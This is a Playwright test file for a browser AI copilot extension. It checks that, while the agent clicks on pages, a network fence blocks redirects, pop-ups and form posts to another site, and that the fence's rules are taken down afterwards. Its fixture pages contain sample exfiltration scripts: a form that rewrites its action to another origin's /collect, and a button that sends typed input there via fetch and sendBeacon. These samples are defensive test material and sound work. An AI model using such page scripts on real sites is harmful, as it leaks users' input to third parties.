// The network fence in the built extension: what a page cannot reach while an act is under way on it, what it
// still can, and that nothing stays behind.
import { join } from 'node:path';
import { build } from '../../scripts/build.mjs';
import { launchBrowser, openPanelWindow, tabIdOf } from '../../scripts/browser.mjs';
import { ENDED, sendGoal, waitForStatus } from '../../scripts/panel.mjs';
import { findChromium } from '../../scripts/setup.mjs';
import { expect, test as base, type Copilot } from './fixtures';
import { startTwoSites, type TwoSites } from './two-sites';
import { allowSite } from './workbench';

/** A form that says where it goes, and goes elsewhere. */
const swapping = (field: string, button: string, other: string): string =>
  `<form action="/kept" method="post"><label>${field} <input name="d"></label> <button>${button}</button></form>
    <script>document.forms[0].addEventListener('submit', (e) => {
      navigator.sendBeacon('/tried');
      e.target.action = '${other}/collect';
    })</script>`;

const pages = (other: string): Record<string, string> => ({
  '/bounce': `${other}/landed`,
  '/links': `<a href="/bounce">Open statement</a>`,
  '/window': `<button onclick="window.open('${other}/landed', 'w')">Open help</button>`,
  '/send': `<label>Note <input id="n"></label> <button onclick="fetch('${other}/collect', {method: 'POST', mode: 'no-cors', body: n.value});
    navigator.sendBeacon('${other}/beacon', 'x'); new Image().src = '${other}/image';
    fetch('/kept', {method: 'POST'})">Save draft</button>`,
  // Shows a busy mark for as long as it is waited for: the act, and with it the fence, goes on meanwhile.
  '/busy': `<button onclick="this.insertAdjacentHTML('afterend', '<div class=loading>Loading</div>')">Save draft</button>`,
  '/swap': swapping('Comment', 'Send comment', other),
  '/swap-filter': swapping('Filter', 'Apply', other),
});

const test = base.extend<{ sites: TwoSites }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the fixture's needs from the pattern.
  sites: async ({}, use) => {
    const sites = await startTwoSites(pages);
    await use(sites);
    await sites.close();
  },
});

async function click(
  copilot: Copilot,
  { own }: TwoSites,
  caller: 'model' | 'test',
  path: string,
  name: string,
) {
  await allowSite(copilot, own);
  await copilot.page.goto(own + path);
  const tabId = await copilot.tabIdOf();
  const role = path === '/links' ? 'link' : 'button';
  const args = { tabId, selector: { kind: 'role', role, name } };
  return copilot.callAs(caller, `Click "${name}"`, 'dom.click', args);
}

const rulesOf = async (copilot: Copilot) =>
  (await copilot.worker()).evaluate(
    async () => (await chrome.declarativeNetRequest.getSessionRules()).length,
  );

test('a redirect out of the task is stopped before it is sent, and the tab is back', async ({
  copilot,
  sites,
}) => {
  const result = await click(copilot, sites, 'model', '/links', 'Open statement');
  expect(result).toMatchObject({ ok: false, code: 'POLICY_DENIED' });
  expect(sites.at('own', '/bounce')).toHaveLength(1);
  expect(sites.at('other')).toEqual([]);
  await expect(copilot.page).toHaveURL(`${sites.own}/links`);
});

test('a window that the page opens goes nowhere outside', async ({ copilot, sites }) => {
  const opened = copilot.page.waitForEvent('popup');
  await click(copilot, sites, 'model', '/window', 'Open help');
  await expect.poll(async () => (await opened).url()).toMatch(/^chrome-error:/);
  expect(sites.at('other')).toEqual([]);
});

test('data is sent to the page’s own site only; reading elsewhere goes on', async ({ copilot, sites }) => {
  expect(await click(copilot, sites, 'model', '/send', 'Save draft')).toMatchObject({ ok: true });
  await expect.poll(() => sites.at('own', '/kept')).toHaveLength(1);
  await expect.poll(() => sites.at('other').map(({ path }) => path)).toEqual(['/image']);
});

test('an act of the user’s words may lead elsewhere, and takes nothing along', async ({ copilot, sites }) => {
  expect(await click(copilot, sites, 'test', '/swap-filter', 'Apply')).toMatchObject({
    code: 'POLICY_DENIED',
  });
  await expect.poll(() => sites.at('own', '/tried')).toHaveLength(1);
  expect(sites.at('other')).toEqual([]);
  await click(copilot, sites, 'test', '/links', 'Open statement');
  await expect.poll(() => sites.at('other').map(({ path }) => path)).toEqual(['/landed']);
});

test('the fence is gone when the acts are over, and the user goes where they like', async ({
  copilot,
  sites,
}) => {
  await click(copilot, sites, 'model', '/send', 'Save draft');
  await expect.poll(() => rulesOf(copilot)).toBe(0);
  await copilot.page.goto(`${sites.other}/landed`);
  expect(sites.at('other', '/landed')).toHaveLength(1);
});

test('what a worker that died left standing is taken down by the next', async ({ copilot, sites }) => {
  await copilot.openPanel();
  const act = click(copilot, sites, 'model', '/busy', 'Save draft').catch(() => undefined);
  await expect.poll(() => rulesOf(copilot)).toBeGreaterThan(0);
  await copilot.killWorker();
  await act;
  await expect.poll(() => rulesOf(copilot)).toBe(0);
});

test('it holds with the browser’s permission for the task’s site alone', async ({ sites }) => {
  const dist = join(import.meta.dirname, '../../.cache/dist-fence');
  build('site', { SITE_ORIGIN: sites.own, OUT_DIR: dist });
  const browser = await launchBrowser({ dist, executablePath: findChromium() ?? '' });
  try {
    await browser.page.goto(`${sites.own}/swap`);
    const panel = await openPanelWindow(browser, await tabIdOf(browser, browser.page));
    await sendGoal(panel, 'Fill in comment with "hello" and click Send comment');
    const status = await waitForStatus(panel, [...ENDED, 'awaiting_user', 'blocked']);
    if (status === 'awaiting_user') await panel.getByRole('button', { name: 'Approve', exact: true }).click();
    await waitForStatus(panel, [...ENDED, 'blocked']);
    await expect.poll(() => sites.at('own', '/tried')).toHaveLength(1);
    expect(sites.at('other')).toEqual([]);
  } finally {
    await browser.close();
  }
});
